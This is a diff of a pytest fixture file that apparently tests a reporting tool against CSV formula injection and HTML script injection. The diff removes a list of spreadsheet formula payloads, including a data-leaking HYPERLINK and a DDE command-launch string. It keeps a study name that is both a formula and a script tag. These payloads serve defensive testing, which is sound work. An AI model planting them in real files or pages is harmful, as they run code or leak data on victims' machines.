@@ -2,7 +2,9 @@
 
 The MFI panel, holdings and MIV indicators are the bundled example files with each MFI id,
 MFI name, MIV id and MIV name rewritten to a spreadsheet formula (OWASP "CSV injection",
-CWE-1236), and a study name that is both a formula and an HTML script tag.
+CWE-1236), and a study name that is both a formula and an HTML script tag. Data and
+fixtures live here (not in an importable helper module) so that the suite runs under any
+pytest import mode.
 """
 
 from __future__ import annotations
@@ -15,17 +17,6 @@ import pytest
 
 DATA = Path(__file__).resolve().parents[2] / "socialperf" / "data"
 
-#: One string per character that makes a spreadsheet treat a cell as a formula.
-FORMULAS = (
-    "=1+2",
-    "+1+2",
-    "-1+2",
-    "@SUM(A1:A2)",
-    "\t=1+2",
-    "\r=1+2",
-    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
-    "=cmd|' /C calc'!A0",
-)
 STUDY_NAME = '=1+2 <script>alert("study")</script>'
 
 STUDY_TOML = """
@@ -86,3 +77,9 @@ def hostile_report(hostile_study, tmp_path_factory) -> Path:
     code = main(["run", str(hostile_study), "--out", str(out)])
     assert code == 0
     return out
+
+
+@pytest.fixture(scope="session")
+def hostile_study_name() -> str:
+    """The hostile study's name (a formula and a script tag)."""
+    return STUDY_NAME
